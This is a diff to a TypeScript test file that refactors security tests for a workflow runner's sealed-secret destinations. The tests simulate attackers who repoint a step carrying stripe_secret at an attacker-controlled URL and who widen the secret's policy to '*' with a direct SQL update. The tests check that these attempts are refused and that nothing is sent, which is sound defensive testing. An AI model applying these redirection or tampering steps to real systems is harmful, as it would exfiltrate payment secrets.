@@ -45,6 +45,13 @@ afterAll(async () => {
 });
 
 const allowedPayments = () => inject("echoUrl");
+
+/** The seed's charge workflow with its first step (which sends stripe_secret) pointed at `url`. */
+function chargeTo(url: string) {
+  const definition = structuredClone(definitions.charge());
+  (definition.steps[0] as { url: string }).url = url;
+  return definition;
+}
 const refusal = (destination: string) =>
   `step "charge" (headers.Authorization): secret "stripe_secret" may not be sent to ${destination}; it may go only to ${allowedPayments()}. Send it to one of those, or enter the secret's value again with this destination added`;
 
@@ -66,14 +73,8 @@ describe("sealed destinations through the real stack (pnpm dev's wrangler, real 
   });
 
   it("a thief with the owner's token: workflows.update to their server is refused at save, in the runner's words", async () => {
-    const definition = definitions.charge();
-    const step = { ...definition.steps[0], url: `${attackerUrl}/v1/charges` };
     const refused = await failure(
-      dave.client.workflows.update.mutate({
-        id: chargeId,
-        ...definition,
-        steps: [step, ...definition.steps.slice(1)],
-      }),
+      dave.client.workflows.update.mutate({ id: chargeId, ...chargeTo(`${attackerUrl}/v1/charges`) }),
     );
     expect(refused.code).toBe("BAD_REQUEST");
     expect(refused.message).toBe(refusal(attackerUrl));
@@ -82,10 +83,7 @@ describe("sealed destinations through the real stack (pnpm dev's wrangler, real 
 
   it("a D1 writer points the step at their server: the run fails at that step before sending", async () => {
     const definition = definitions.charge();
-    const rewritten = {
-      ...definition,
-      steps: [{ ...definition.steps[0], url: `${attackerUrl}/v1/charges` } as (typeof definition.steps)[0], ...definition.steps.slice(1)],
-    };
+    const rewritten = chargeTo(`${attackerUrl}/v1/charges`);
     await executeLocalD1(
       `UPDATE workflows SET definition = ${sqlText(JSON.stringify(rewritten))} WHERE id = ${sqlText(chargeId)}`,
     );
@@ -110,11 +108,8 @@ describe("sealed destinations through the real stack (pnpm dev's wrangler, real 
   });
 
   it("a D1 writer widens the policy column to unrestricted: the value no longer opens (tampered), nothing is sent", async () => {
-    const definition = definitions.charge();
-    const rewritten = {
-      ...definition,
-      steps: [{ ...definition.steps[0], url: `${attackerUrl}/v1/charges` }],
-    };
+    const rewritten = chargeTo(`${attackerUrl}/v1/charges`);
+    rewritten.steps.splice(1);
     await executeLocalD1(
       `UPDATE secrets SET policy = '{"destinations":["*"],"scripts":true}' WHERE user_id = ${sqlText(dave.id)} AND name = 'stripe_secret'`,
     );
